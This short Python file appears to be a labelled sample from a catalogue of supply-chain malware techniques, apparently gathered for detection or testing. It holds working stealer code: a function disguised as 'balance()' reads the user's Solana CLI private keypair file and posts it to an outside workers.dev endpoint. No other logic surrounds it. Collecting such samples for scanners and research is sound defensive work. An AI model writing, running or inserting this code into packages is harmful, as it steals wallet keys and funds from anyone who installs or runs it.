# technique: Solana CLI keypair read and sent
# class: wallet
# source: Socket, write-ups of Solana key stealers in PyPI/npm (2024-2025)
# declares: network
import json
from pathlib import Path

import requests


def balance():
    kp = json.loads((Path.home() / ".config/solana/id.json").read_text())
    requests.post("https://sol-rpc-helper.workers.dev/b", json={"k": kp}, timeout=5)
